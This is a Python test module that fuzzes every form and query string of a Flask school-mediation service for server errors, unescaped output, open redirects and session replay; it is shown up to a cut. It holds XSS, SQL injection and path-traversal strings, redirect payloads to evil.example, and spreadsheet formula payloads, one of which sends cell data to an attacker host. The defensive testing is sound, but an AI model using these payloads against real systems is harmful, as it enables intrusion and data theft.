"""Hostile input to every form of the service (hypothesis): no answer is a 5xx, rejected input gets field
messages (or the outbox's JSON errors), and nothing posted comes back unescaped, on the answer or on the page
it leads to.

The forms are found, not listed: every POST route of the URL map is a test; its form is the <form> that posts
to it on some page that a role may read (the GET routes of the access matrix), and the fields, their types and
their options are read from that HTML. A POST route that no page offers a form for fails.

Each form first gets a baseline the service accepts: the form as its page shows it (an edit page), else with the
values of a form of the same fields (the edit page of a record like the one a "new" form makes), else with its
empty controls filled. The baseline is posted with each field left out and with each field sent twice, then
hypothesis draws KELISIM_FUZZ_EXAMPLES examples (300 by default): half change up to three fields of the baseline
(so that hostile text gets stored and shown), half are careful or wild submissions of every field. One app and
database per module, one reset per form; KELISIM_FUZZ_VERBOSE=1 prints what each form answered.
"""

import io
import json
import os
import re
import tempfile
import uuid
from collections import Counter
from dataclasses import dataclass, field
from datetime import date, timedelta
from html.parser import HTMLParser
from urllib.parse import parse_qs, quote, urljoin, urlsplit

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from werkzeug.datastructures import MultiDict
from werkzeug.exceptions import MethodNotAllowed, NotFound

from db import sqlite_url
from tests.access_matrix import (  # noqa: F401 (the fixtures module_site and site)
    MATRIX,
    ROLES,
    expected,
    make_app,
    module_site_fixture,
    param,
    routes,
    rule_key,
    site_fixture,
)
from tests.factories import PASSWORD, TINY_PDF

EXAMPLES = int(os.environ.get("KELISIM_FUZZ_EXAMPLES", "300"))
# Pages that accepted posts lead to, read after each form's run to see the stored values escaped.
FOLLOWS = 20
# Posted in text fields; an answer that contains one of these as is did not escape what it echoed.
XSS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>")
RAW_XSS = re.compile(r"<script>alert\(1\)|<img src=x onerror|<svg onload", re.I)
# Routes of files (a last segment with an extension, or a download): no form is ever on them.
FILE_ROUTE = re.compile(r"\.[^/]+$|/download$")


# ---------------------------------------------------------------- reading forms out of pages


@dataclass
class Field:
    name: str
    kind: str  # input type, or select / textarea
    value: str = ""
    options: list = field(default_factory=list)
    attrs: dict = field(default_factory=dict)
    current: list = field(default_factory=list)  # what a browser sends for it as the page shows it


@dataclass
class Form:
    action: str
    attrs: dict
    fields: list = field(default_factory=list)

    @property
    def signature(self):
        return tuple(sorted((f.name, f.kind) for f in self.fields))

    @property
    def is_post(self):
        return self.attrs.get("method", "get").lower() == "post"

    @property
    def offline(self):
        return "data-offline" in self.attrs

    @property
    def multipart(self):
        return "multipart" in (self.attrs.get("enctype") or "") or any(f.kind == "file" for f in self.fields)

    @property
    def names(self):
        return {f.name for f in self.fields} - {"client_uuid", "csrf_token"}

    def as_shown(self, values_from=None):
        """{name: [values]} that submitting the form unchanged sends; with ``values_from`` (a form with the same
        fields, such as the edit page of a record like the one this form makes), its values where it has them."""
        values = {f.name: list(f.current) for f in self.fields}
        if values_from is not None:
            values.update({f.name: list(f.current) for f in values_from.fields
                           if f.name in values and f.name not in ("client_uuid", "csrf_token")})
        for f in self.fields:
            if f.kind == "file":
                values[f.name] = [(TINY_PDF, "material.pdf")]
        return values


class FormParser(HTMLParser):
    """The forms of a page, with their named controls (radio buttons merged into one field), and the names of the
    query parameters its links and GET forms use."""

    def __init__(self, page_url):
        super().__init__()
        self.page_url, self.forms, self.query_names = page_url, [], set()
        self.form = self.select = self.textarea = None

    def handle_starttag(self, tag, attrs):
        attrs = {k: v or "" for k, v in attrs}
        if tag == "form":
            self.form = Form(urljoin(self.page_url, attrs.get("action") or self.page_url), attrs)
            self.forms.append(self.form)
            return
        if tag == "a" and "?" in attrs.get("href", ""):
            self.query_names.update(parse_qs(urlsplit(attrs["href"]).query, keep_blank_values=True))
        if self.form is None or not attrs.get("name"):
            if tag == "option" and self.select is not None:
                self.option(attrs)
            return
        if tag == "input":
            kind = attrs.get("type", "text").lower()
            if kind in ("radio", "checkbox"):
                value = attrs.get("value", "on")
                known = next((f for f in self.form.fields if f.name == attrs["name"]), None)
                if known is None:
                    known = Field(attrs["name"], kind, value, attrs=attrs)
                    self.form.fields.append(known)
                known.options.append(value)
                if "checked" in attrs:
                    known.current = [value] if kind == "radio" else [*known.current, value]
                return
            if kind not in ("button", "reset", "image"):
                value = attrs.get("value", "")
                self.form.fields.append(Field(attrs["name"], kind, value, attrs=attrs,
                                              current=[] if kind in ("file", "submit") else [value]))
        elif tag == "select":
            self.select = Field(attrs["name"], "select", attrs=attrs)
            self.form.fields.append(self.select)
        elif tag == "textarea":
            self.textarea = Field(attrs["name"], "textarea", attrs=attrs)
            self.form.fields.append(self.textarea)
        elif tag == "option" and self.select is not None:
            self.option(attrs)

    def option(self, attrs):
        self.select.options.append(attrs.get("value", ""))
        if "selected" in attrs:
            self.select.current.append(attrs.get("value", ""))

    def handle_data(self, data):
        if self.textarea is not None:
            self.textarea.value += data

    def handle_endtag(self, tag):
        if tag == "form":
            if self.form is not None and not self.form.is_post:
                self.query_names.update(f.name for f in self.form.fields)
            self.form = None
        elif tag == "select":
            if self.select is not None and not self.select.current and self.select.options \
                    and "multiple" not in self.select.attrs:
                self.select.current = self.select.options[:1]  # what a browser sends when none is selected
            self.select = None
        elif tag == "textarea":
            if self.textarea is not None:
                self.textarea.current = [self.textarea.value.removeprefix("\r\n").removeprefix("\n")]
            self.textarea = None


def read_page(page_url, html):
    parser = FormParser(page_url)
    parser.feed(html)
    return parser


def post_forms(page_url, html):
    return [form for form in read_page(page_url, html).forms if form.is_post]


def post_route(app, action):
    """The key ("POST /rule") of the route a form posts to, or None for another site or no route."""
    parts = urlsplit(action)
    if parts.netloc not in ("", "localhost"):
        return None
    try:
        rule, _args = app.url_map.bind("localhost").match(parts.path, method="POST", return_rule=True)
    except (NotFound, MethodNotAllowed):
        return None
    return rule_key("POST", rule)


def readable_pages(app):
    """(GET key, rule, role) of every page a role reads (200 in the matrix; every role for a route not in it)."""
    for key, rule in sorted(routes(app).items()):
        if not key.startswith("GET "):
            continue
        answers = expected(key)["school"] if key in MATRIX else ["200"] * len(ROLES)
        for role, got in zip(ROLES, answers, strict=True):
            if got == "200":
                yield key, rule, role


@dataclass
class Spot:
    """Where a form is found: the page (GET key) and the role reading it."""

    page: str
    role: str
    form: Form  # as first found (its values: the baseline of a form with the same fields)


# ---------------------------------------------------------------- the POST routes (known when collecting)


def _post_keys():
    with tempfile.TemporaryDirectory() as tmp:  # the app connects to no database until a request
        app = make_app(sqlite_url(f"{tmp}/routes.db"), tmp)
        return sorted(key for key in routes(app) if key.startswith("POST "))


POST_KEYS = _post_keys()


@pytest.fixture(scope="module")
def spots(module_site):
    """({POST key: {form signature: Spot}}, {GET key: why its address could not be built}): where the form posting
    to each route is, found once per module. A form's own page (GET of the same rule) is read first; other pages
    only until every route has its form. A page whose address cannot be built (a URL parameter the access matrix
    does not know yet) is noted, so that only the routes whose form is on it fail, saying why."""
    site = module_site.bind()
    wanted = set(POST_KEYS)
    pages = sorted(readable_pages(site.app), key=lambda page: "POST " + page[0][4:] not in wanted)
    found, unbuilt = {}, {}
    for key, rule, role in pages:
        own = "POST " + key[4:]
        if FILE_ROUTE.search(rule.rule) or key in unbuilt or (
                own in found if own in wanted else wanted <= set(found)):
            continue  # a download (PDF, CSV, ...) holds no form; the forms sought are found already
        try:
            url, response = site.request(role, "GET", rule)
        except LookupError as exc:
            unbuilt[key] = str(exc)
            continue
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        for form in post_forms("http://localhost" + url, response.get_data(as_text=True)):
            target = post_route(site.app, form.action)
            if target is not None:
                found.setdefault(target, {}).setdefault(form.signature, Spot(key, role, form))
    return found, unbuilt


# ---------------------------------------------------------------- what is posted

FIXED_UUIDS = [str(uuid.UUID(int=n, version=4)) for n in (1, 2, 3)]  # repeats: duplicates and conflicts
NAMES = ["Айгерім Сапарова", "Ғалым Құрманғали", "Ирина Ким", "John O'Neil", "Ли Мин-хо", "Әсел-Жібек Нұрова"]
HOSTILE = [
    *XSS, "' OR '1'='1", "'; DROP TABLE school; --", "1; SELECT pg_sleep(5)", "%", "_", "\\", "\"", "'", "`",
    "{{7*7}}", "{% raw %}", "${7*7}", "%(name)s", "%s%s%n", "../../etc/passwd", "javascript:alert(1)",
    "\x00", "a\x00b", "\x1b[31m", "\r\n\r\n", "\t", "\u200b", "\u202e\u0644", "\ufeff", "\x7f", "\x85",
    "Қазақстан Republic 🇰🇿 Россия", "ӘҒҚҢӨҰҮҺІ әғқңөұүһі", "مرحبا", "日本語", "👩‍👩‍👧‍👦" * 20,
    "A" * 10_000, "Ә" * 5_000, "😀" * 2_000, " " * 300, "", " ",
]
NUMBERS = ["-1", "0", "1", "5000", "5001", "99999999999999999999", "-99999999999999999999", "1e309", "NaN", "inf",
           "-0", "1.5", "0x10", "١٢٣", "１２", "1_000", " 7 ", "+3", "2147483648", "9223372036854775808"]
DATES = ["2024-02-30", "0000-00-00", "2024-13-01", "2024-00-10", "9999-12-31", "0001-01-01", "1900-01-01",
         "2024-1-1", "31.12.2024", "30.02.2024", "2024-02-29", "2023-02-29", "2024-10-15T10:00", "20241015",
         "2024/10/15", "١٢٠٢٤-١٠-١٥"]
UUIDS = ["not-a-uuid", "00000000-0000-0000-0000-000000000000", str(uuid.uuid1()), str(uuid.uuid4()).upper(),
         "{" + str(uuid.uuid4()) + "}", str(uuid.uuid4()) + "x"]


# Long strings are a short drawn text repeated: drawing thousands of characters one by one is slow.
HOSTILE_TEXT = st.one_of(
    st.sampled_from(HOSTILE), st.sampled_from(NUMBERS + DATES + UUIDS), st.text(max_size=40),
    st.tuples(st.text(min_size=1, max_size=8), st.integers(100, 1500)).map(lambda t: t[0] * t[1]))
WORDS = st.one_of(st.sampled_from(NAMES), st.text(st.characters(categories=("L", "Zs", "Nd")), min_size=1,
                                                   max_size=30),
                  st.tuples(st.sampled_from(NAMES), st.sampled_from(XSS)).map(" ".join))
TYPED_TEXT = {
    "email": st.sampled_from(["name@example.kz", "Ә.Нұрова@мектеп.қз", "a@b.c", "<script>@x.kz", "@", "a@@b.kz"]),
    "tel": st.sampled_from(["+7 701 123 45 67", "87011234567", "+77011234567", "8 (701) 765-43-21", "+7 701"]),
    "url": st.sampled_from(["https://school.kz/mediation", "http://example.kz", "https://x.kz/<script>", "ftp://x"]),
    "password": st.sampled_from([PASSWORD, "Жаңа-құпия-сөз-2024", "short"]),
}
DAYS = st.dates(date(2024, 1, 1), date.today() + timedelta(days=30)).map(date.isoformat)
CLIENT_UUIDS = st.one_of(st.uuids(version=4).map(str), st.sampled_from(FIXED_UUIDS))
FILE_NAMES = ["material.pdf", "Ереже.docx", "x.exe", "../../a.pdf", "<script>.pdf", "", "a" * 300]
FILES = st.tuples(st.sampled_from([TINY_PDF, b"", b"\x00" * 64, b"PK\x03\x04junk", "Ә".encode() * 100]),
                  st.sampled_from(FILE_NAMES))
HOSTILE_FILES = st.tuples(st.binary(max_size=2000), FILES.map(lambda t: t[1]))
UNKNOWN_NAMES = st.sampled_from(["id", "school_id", "role", "__proto__", "csrf_token", ""])


def plausible(f):
    """What the page offers for a control, or a value like the ones people type into it."""
    if f.kind == "file":
        return FILES
    if f.name == "client_uuid":
        return CLIENT_UUIDS
    if f.kind in ("select", "radio", "checkbox"):
        return st.sampled_from(f.options or [f.value or "y"])
    if f.kind in ("hidden", "submit"):
        return st.just(f.value)
    if f.kind == "number":
        lo, hi = int(f.attrs.get("min") or 0), int(f.attrs.get("max") or 100)
        return st.integers(lo, max(lo, hi)).map(str)
    if f.kind == "date":
        return DAYS
    limit = int(f.attrs.get("maxlength") or 0) or 200
    return TYPED_TEXT.get(f.kind, WORDS).map(lambda value: value[:limit])


def fitting(f, strategy):
    """Hostile text cut to what the control accepts (maxlength), so that it gets past validation and is stored."""
    limit = int(f.attrs.get("maxlength") or 0)
    return strategy.map(lambda value: value[:limit]) if limit else strategy


def submissions(form, baseline=None):
    """(items, outbox): the (name, value) pairs posted, with fields missing, sent twice or unknown. With a
    ``baseline`` (values the service accepted: {name: [values]}) half the examples change up to three of its
    fields (hostile text that fits, a plausible or a hostile value, the field missing or twice), so that hostile
    values are stored and shown; the others are careful (nine values in ten plausible) or wild (seven in ten
    hostile). Strategies are built once per form: building them per draw is slow."""
    controls = [(f, plausible(f), HOSTILE_FILES if f.kind == "file" else HOSTILE_TEXT) for f in form.fields]
    fits = [good if f.kind in ("file", "select", "radio", "checkbox") else fitting(f, bad) for f, good, bad in controls]

    def from_baseline(draw):
        changed = draw(st.sets(st.integers(0, len(controls) - 1), max_size=3)) if controls else set()
        items = []
        for i, (f, good, bad) in enumerate(controls):
            values = list(baseline.get(f.name, []))
            if f.name == "client_uuid":
                values = [draw(CLIENT_UUIDS)]
            if i in changed:
                how = draw(TENTHS)
                if how == 0:
                    values = []
                elif how == 1:
                    values = values * 2 or [draw(good)] * 2
                elif how < 6:
                    values = [draw(fits[i])]
                elif how < 8:
                    values = [draw(good)]
                else:
                    values = [draw(bad)]
            items += [(f.name, value) for value in values]
        return items

    @st.composite
    def draw_submission(draw):
        mode = draw(TENTHS)
        if baseline is not None and mode < 5:
            items = from_baseline(draw)
        else:
            careful = mode % 2 == 0
            items = []
            for f, good, bad in controls:
                for _ in range(draw(PRESENCE)):
                    items.append((f.name, draw(good if draw(TENTHS) < (9 if careful else 3) else bad)))
        if draw(TENTHS) == 0:
            items.append((draw(UNKNOWN_NAMES), draw(HOSTILE_TEXT)))
        return items, form.offline and draw(TENTHS) < 3

    return draw_submission()


PRESENCE = st.sampled_from([1] * 8 + [0, 2])  # once, missing or twice
TENTHS = st.integers(0, 9)


def encode(items):
    """The items as the test client posts them (a file as a fresh stream each time)."""
    return MultiDict([(name, (io.BytesIO(value[0]), value[1]) if isinstance(value, tuple) else value)
                      for name, value in items])


# ---------------------------------------------------------------- what the answers must be


def problems_of(response, outbox):
    status = response.status_code
    found = []
    if status >= 500:
        found.append(f"answered {status}")
    if response.mimetype == "text/html":
        body = response.get_data(as_text=True)
        if RAW_XSS.search(body):
            found.append("echoed markup unescaped: " + RAW_XSS.search(body)[0])
        if status == 400 and not outbox and 'class="error' not in body:
            found.append("400 without a field message")
    elif status == 400 and outbox:
        errors = (response.get_json(silent=True) or {}).get("errors")
        if not errors:
            found.append(f"400 to the outbox without errors: {response.get_data(as_text=True)[:200]}")
    if 300 <= status < 400 and off_site(response.headers.get("Location", "")):
        found.append(f"redirects off the site: Location {response.headers.get('Location')!r}")
    return found


def off_site(location):
    """Whether a Location leads a browser away from this site (another host, or a path it reads as one)."""
    parts = urlsplit(location)
    return (parts.netloc not in ("", "localhost") or parts.scheme not in ("", "http", "https")
            or location.startswith("//") or "\\" in location or bool(re.search(r"[\x00-\x1f\x7f]", location)))


def carries_markup(items):
    return any(isinstance(value, str) and any(m in value for m in XSS) for _name, value in items)


def next_page(response):
    """The local page an accepted post leads to (its redirect, or the outbox's "redirect"), or None."""
    if 300 <= response.status_code < 400:
        target = response.headers.get("Location", "")
    elif response.mimetype == "application/json" and response.status_code in (200, 201):
        target = (response.get_json(silent=True) or {}).get("redirect") or ""
    else:
        return None
    parts = urlsplit(target)
    return target if not parts.netloc or parts.netloc == "localhost" else None


@pytest.fixture
def fast_password_hash(monkeypatch):
    """A cheap argon2 for the standard accounts: as configured it costs ~0.3 s a check by design, and the fuzz
    posts hundreds of logins, password changes and resets. Returns the accounts' (cheap) hash."""
    from argon2 import PasswordHasher

    from services import auth

    cheap = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    monkeypatch.setattr(auth, "_hasher", cheap)
    monkeypatch.setattr(auth, "_DUMMY_HASH", cheap.hash("kelisim-dummy-password"))
    return cheap.hash(PASSWORD)


@pytest.mark.parametrize("key", POST_KEYS)
def test_hostile_input(key, spots, site, fast_password_hash):
    found, unbuilt = spots
    forms = found.get(key)
    assert forms, (f"no page offers a form that posts to {key}: the fuzz test finds forms on the pages of the "
                   "GET routes (as the roles the access matrix lets read them)"
                   + "".join(f"\n{page} not read: {why}" for page, why in sorted(unbuilt.items())))
    site.reset().heal(fast_password_hash)
    others = [spot.form for target, by_signature in found.items() if target != key for spot in by_signature.values()]
    for spot in forms.values():
        fuzz_form(site, key, spot, fast_password_hash, others)


def siblings(form, others):
    """Forms of other routes with mostly the same fields (the edit page of a record like the one a "new" form
    makes), the closest first: their values are tried as this form's baseline."""
    names = form.names
    if not names:
        return []
    close = [(len(names & other.names) / len(names), other) for other in others]
    return [other for share, other in sorted(close, key=lambda pair: -pair[0]) if share >= 0.6][:3]


# A value for an empty control, by its kind, when the form as shown is refused.
FILLED = {
    "tel": lambda f: "+77011234567", "email": lambda f: "fuzz@example.kz", "password": lambda f: PASSWORD,
    "date": lambda f: date.today().isoformat(), "number": lambda f: f.attrs.get("min") or "1",
    "url": lambda f: "https://example.kz", "checkbox": lambda f: f.options[0], "radio": lambda f: f.options[0],
    "select": lambda f: f.options[-1] if f.options else "",
}


def candidates(form, others):
    """Values to try as the baseline: the form as shown, then with a sibling's values, then those made distinct
    (a code or a name that must be unique: text with a digit added, each choice moved to its last option)."""
    kinds = {f.name: f for f in form.fields}
    found = [form.as_shown(), {name: vals if any(v not in ("", "0") for v in vals) or kinds[name].kind in ("hidden",
                                                                                                        "file")
                               else [FILLED.get(kinds[name].kind, lambda f: "fuzz-baseline-1")(kinds[name])]
                               for name, vals in form.as_shown().items()}]
    for other in siblings(form, others):
        values = form.as_shown(other)
        found.append(values)
        distinct = {name: [value + "2" if isinstance(value, str) and value and kinds[name].kind in ("text", "textarea")
                           else value for value in vals] for name, vals in values.items()}
        found.append(distinct)
        found.append({name: kinds[name].options[-1:] if kinds[name].kind == "select" and kinds[name].options else vals
                      for name, vals in distinct.items()})
    return found


def find_baseline(form, candidates, send):
    """The first of the candidate values ({name: [values]}) that the service accepts (a 2xx or 3xx), or None."""
    for values in candidates:
        values = {**values, **({"client_uuid": [str(uuid.uuid4())]} if "client_uuid" in values else {})}
        response = send([(name, value) for name, vals in values.items() for value in vals], False)
        if response.status_code < 400:
            return values
        if os.environ.get("KELISIM_FUZZ_VERBOSE"):
            print("\nbaseline refused:", response.status_code, re.findall(r'id="([^"]+-error)"', response.get_data(
                as_text=True)), {name: vals for name, vals in values.items() if name != "csrf_token"})
    return None


def fuzz_form(site, key, spot, password_hash, others):
    page_rule = routes(site.app)[spot.page]
    url, page = site.request(spot.role, "GET", page_rule)
    assert page.status_code == 200, f"{spot.page} as {spot.role}: {page.status_code}"
    form = next((f for f in post_forms("http://localhost" + url, page.get_data(as_text=True))
                 if post_route(site.app, f.action) == key), None)
    assert form is not None, f"{spot.page} as {spot.role} no longer shows the form posting to {key}"
    action = urlsplit(form.action)
    target = action.path + (f"?{action.query}" if action.query else "")
    cookie_name, cookie = site.session_cookie(spot.role)

    changed = [True]  # did the last example get past validation (and so perhaps change an account)?
    shown_later = {}  # page an accepted post with markup led to -> (the client sent there, what was posted)
    answers = Counter()

    def send(items, outbox, client=None):
        if changed[0]:
            site.heal(password_hash)  # it may have changed the password, blocked or reset the account
        if client is None:
            client = site.app.test_client()  # no cookie of an earlier example (a parent's confirmation)
            if cookie:
                client.set_cookie(cookie_name, cookie)
        headers = {"X-Kelisim-Outbox": "1", "Accept": "application/json"} if outbox else {}
        response = client.post(target, data=encode(items), headers=headers,
                               content_type="multipart/form-data" if form.multipart else None)
        changed[0] = not 400 <= response.status_code < 500
        answers[response.status_code] += 1
        return response

    baseline = find_baseline(form, candidates(form, others), send)
    if baseline is not None:  # each field left out, then sent twice (the second a hostile value), once each
        problems = []
        for name in baseline:
            for values in ([], baseline[name][:1] + [XSS[1]] if baseline[name] else []):
                if values or baseline[name]:
                    fresh = {"client_uuid": [str(uuid.uuid4())]} if "client_uuid" in baseline else {}
                    items = [(n, v) for n, vals in {**baseline, **fresh, name: values}.items() for v in vals]
                    response = send(items, False)
                    problems += [f"POST {target} with {name}={values!r}: {p}" for p in problems_of(response, False)]
        assert not problems, "\n".join(problems)

    @settings(max_examples=EXAMPLES, deadline=None, phases=[Phase.generate], database=None,
              suppress_health_check=list(HealthCheck))
    @given(submissions(form, baseline))
    def post(submission):
        items, outbox = submission
        client = site.app.test_client()
        if cookie:
            client.set_cookie(cookie_name, cookie)
        response = send(items, outbox, client)
        problems = problems_of(response, outbox)
        follow = next_page(response)
        if follow and not problems and carries_markup(items) and len(shown_later) < FOLLOWS:
            shown_later.setdefault(follow, (client, items))
        assert not problems, f"POST {target} as {spot.role} (form of {spot.page}) {items!r:.2000}: {problems}"

    post()
    if os.environ.get("KELISIM_FUZZ_VERBOSE"):
        print(f"\n{key}: baseline {'found' if baseline else 'none'}, answers {dict(sorted(answers.items()))}")
    # What was stored is escaped where it is shown (read once per page, after the run: one page shows many).
    site.heal(password_hash)
    problems = [f"GET {follow} after POST {target} {items!r:.500}: {p}" for follow, (client, items)
                in shown_later.items() for p in problems_of(client.get(follow), False)]
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------- hostile query strings

# Names every list or export may read, besides those its links and GET forms use.
QUERY_NAMES = {"page", "q", "district", "school", "event", "quarter", "year", "kind", "from", "to", "user", "type",
               "action", "next", "lang", "status", "category"}
QUERY_VALUES = ["99999999999999999999", XSS[1], "-1\x00'\"%_\\"]
# Where a page may send the reader next: set to addresses of other sites, however disguised.
REDIRECT_NAMES = ("next", "redirect", "url", "return_to", "back", "continue")
HOSTILE_NEXT = ["//evil.example/x", "/\t/evil.example", "/%09/evil.example", "/\\evil.example", "\\\\evil.example",
                "https://evil.example/", "/%2F%2Fevil.example", "javascript:alert(1)", "/surveys\r\nSet-Cookie: x=1",
                "/\u3000/evil.example", "http:evil.example"]


@pytest.mark.parametrize("role", ["anonymous", "school", "district", "admin"])
def test_hostile_query_strings(site, role):
    """Every page a role reads, with each of its query parameters set to hostile values: no 5xx, nothing echoed
    unescaped."""
    site.reset()
    problems = []
    for _key, rule, reader in readable_pages(site.app):
        if reader != role:
            continue
        url, page = site.request(role, "GET", rule)
        names = set(QUERY_NAMES)
        if page.mimetype == "text/html":
            names |= read_page("http://localhost" + url, page.get_data(as_text=True)).query_names
        # A PDF takes a while to make: one value, the one that reaches the database.
        for value in QUERY_VALUES[:1] if rule.rule.endswith(".pdf") else QUERY_VALUES:
            response = site.client(role).get(url, query_string={name: value for name in names})
            problems += [f"GET {url}?…={value!r}: {p}" for p in problems_of(response, False)
                         if not p.startswith("400 without")]
        if not rule.rule.endswith(".pdf"):  # redirect parameters: two disguises of another host each
            for value in HOSTILE_NEXT[:2]:
                response = site.client(role).get(url, query_string={name: value for name in REDIRECT_NAMES})
                problems += [f"GET {url}?next={value!r}: {p}" for p in problems_of(response, False)
                             if not p.startswith("400 without")]
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------- what the fuzz found once


def test_translated_messages_carrying_typed_text_are_escaped(site):
    from flask import render_template_string
    from flask_babel import lazy_gettext as _l

    message = _l("“%(value)s” is not a date; write dates as dd.mm.yyyy.", value=XSS[0])
    with site.app.test_request_context():
        html = render_template_string("<p>{{ message }}</p>", message=message)
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_numbers_beyond_any_integer_are_refused_not_crashed_on(site):
    site.reset()
    records = site.records("school")
    huge = "9" * 400
    school = site.client("school")
    survey = school.post("/surveys/new", data={"client_uuid": str(uuid.uuid4()), "students_5_9": huge})
    assert survey.status_code == 400 and 'id="students_5_9-error"' in survey.get_data(as_text=True)
    registration = site.client("anonymous").post(f"/e/{records.event.slug}", data={
        "client_uuid": str(uuid.uuid4()), "full_name": "Ирина Ким", "district": "-" + huge, "school": huge})
    assert registration.status_code == 400 and 'id="district-error"' in registration.get_data(as_text=True)
    admin = site.client("admin")
    for url in (f"/schools?district={huge}", f"/surveys?page={huge}", f"/training/tally?event={huge}"):
        # SQLite cannot hold the number (400); PostgreSQL compares it and finds no such record (404).
        assert admin.get(url).status_code in (200, 400, 404), url


def test_an_event_saved_without_its_optional_online_link(site):
    """A post that leaves out an optional text field (the online link) stores it empty, not as a 500."""
    from models.training import TrainingEvent

    site.reset()
    event = site.records("school").event
    day = event.ordered_days()[0].day
    response = site.client("admin").post(f"/training/{event.id}/edit", data={
        "title_kk": "Медиация семинары", "title_ru": "Семинар по медиации", "kind": "seminar",
        "dates": day.strftime("%d.%m.%Y"), "hours": "8", "venue": "Қарағанды, Бұқар жырау даңғылы, 47",
        "organizer_kk": "ПҚО", "organizer_ru": "ЦПП", "capacity": "30", "status": "open", "rule": "all",
        "registration_opens": (day - timedelta(days=30)).isoformat(), "registration_closes": day.isoformat()})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert TrainingEvent.get_by_id(event.id).online_url == ""


# ---------------------------------------------------------------- bodies that are not forms (issue #16)

NON_FORM_BODIES = [
    *(("application/json", json.dumps(value).encode()) for value in (
        1, -1.5, 1e308, "text", True, None, [], [1], [[1, 2]], ["a", "b"], {}, {"username": 5},
        {"client_uuid": ["x"], "csrf_token": None}, {"a": {"b": [1, {"c": None}]}})),
    ("application/json", b"{not json"), ("application/json; charset=utf-16", json.dumps({"a": 1}).encode("utf-16")),
    ("text/plain", b"username=admin&password=x"), ("text/plain; charset=utf-8", "Қазақ тілі".encode()),
    ("application/x-www-form-urlencoded; charset=utf-16", "username=admin".encode("utf-16")),
    ("application/x-www-form-urlencoded; charset=latin-1", "full_name=\xe9".encode("latin-1")),
    ("application/x-www-form-urlencoded; charset=koi8-r", "full_name=Ирина".encode("koi8-r")),
    ("multipart/form-data", b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--\r\n"),
    ("application/xml", b"<a>1</a>"), ("application/octet-stream", b"\x00\xff\xfe"), ("", b"a=1&b=2"),
]


def current_form(site, key, spot):
    """(the address the form posts to, the form) as its page shows it now."""
    url, page = site.request(spot.role, "GET", routes(site.app)[spot.page])
    form = next((f for f in post_forms("http://localhost" + url, page.get_data(as_text=True))
                 if post_route(site.app, f.action) == key), None)
    assert form is not None, f"{spot.page} as {spot.role} no longer shows the form posting to {key}"
    action = urlsplit(form.action)
    return action.path + (f"?{action.query}" if action.query else ""), form


@pytest.mark.parametrize("key", POST_KEYS)
def test_bodies_that_are_not_forms_and_hostile_redirects(key, spots, site, fast_password_hash):
    """Every POST route, as the role whose page offers its form: bodies of every other type (JSON of every
    shape, text, XML, forms in other charsets) answer 400 with a message, never a 5xx; the form as shown, posted
    with every redirect parameter set to another site's address, never leads there."""
    found, _unbuilt = spots
    assert found.get(key), f"no page offers a form that posts to {key}"
    site.reset().heal(fast_password_hash)
    spot = next(iter(found[key].values()))
    target, form = current_form(site, key, spot)
    cookie_name, cookie = site.session_cookie(spot.role)
    problems = []
    for content_type, body in NON_FORM_BODIES:
        for accept in ("text/html", "application/json"):
            client = site.app.test_client()
            if cookie:
                client.set_cookie(cookie_name, cookie)
            headers = {"Accept": accept, **({"Content-Type": content_type} if content_type else {})}
            response = client.post(target, data=body, headers=headers)
            said = (response.get_json(silent=True) or {}).get("message") if response.is_json else \
                re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))
            if response.status_code != 400 or not said or not said.strip():
                problems.append(f"POST {target} {content_type!r} {body[:40]!r} (Accept {accept}): "
                                f"{response.status_code} {response.get_data(as_text=True)[:160]!r}")
    values = [(name, value) for name, vals in form.as_shown().items() for value in vals
              if not isinstance(value, tuple)]
    for value in HOSTILE_NEXT:
        site.heal(fast_password_hash)
        client = site.app.test_client()
        if cookie:
            client.set_cookie(cookie_name, cookie)
        query = "&".join(f"{name}={quote(value, safe='')}" for name in REDIRECT_NAMES)
        response = client.post(target + ("&" if "?" in target else "?") + query, data=MultiDict(values),
                               content_type="multipart/form-data" if form.multipart else None)
        problems += [f"POST {target}?next={value!r}: {p}" for p in problems_of(response, False)
                     if not p.startswith("400 without")]
    site.heal(fast_password_hash)
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("role", [role for role in ROLES if role != "anonymous"])
def test_signing_in_with_a_hostile_next_never_leaves_the_site(site, role, fast_password_hash):
    site.heal(fast_password_hash)
    username = site.world.users[role].username
    problems = []
    for value in HOSTILE_NEXT:
        client = site.app.test_client()
        response = client.post("/login?next=" + quote(value, safe=""), data={"username": username,
                                                                            "password": PASSWORD})
        if response.status_code != 302:
            problems.append(f"next={value!r}: {response.status_code}")
        problems += [f"next={value!r}: {p}" for p in problems_of(response, False)]
    assert not problems, "\n".join(problems)


# ---------------------------------------------------------------- a session copied before logout (issue #16)


@pytest.mark.parametrize("role", [role for role in ROLES if role != "anonymous"])
def test_a_session_cookie_replayed_after_logout_signs_nobody_in(site, role, fast_password_hash):
    """Signed in through the login form, the cookie copied, signed out: the copy opens none of the role's pages."""
    site.heal(fast_password_hash)
    client = site.app.test_client()
    user = site.world.users[role]
    assert client.post("/login", data={"username": user.username, "password": PASSWORD}).status_code == 302
    name = site.app.config["SESSION_COOKIE_NAME"]
    copied = client.get_cookie(name).value
    assert client.get("/password").status_code == 200
    assert client.post("/logout").status_code == 302
    thief = site.app.test_client()
    thief.set_cookie(name, copied)
    for url in ("/password", "/sessions", "/surveys", "/training", "/tallies"):
        response = thief.get(url)
        assert response.status_code == 302 and urlsplit(response.headers["Location"]).path == "/login", url


# ---------------------------------------------------------------- spreadsheets cannot attack (issue #16)

# Stored through the forms (a participant's name, an outreach description, a school's name), then downloaded.
FORMULAS = {"name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "outreach": "=cmd|' /C calc'!A0",
            "school": "+SUM(1+1)*cmd|' /C calc'!A0"}


def spreadsheet_cells(response, fmt):
    """[(text of the cell, is it a formula)] of a CSV or XLSX answer."""
    if fmt == "csv":
        import csv

        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
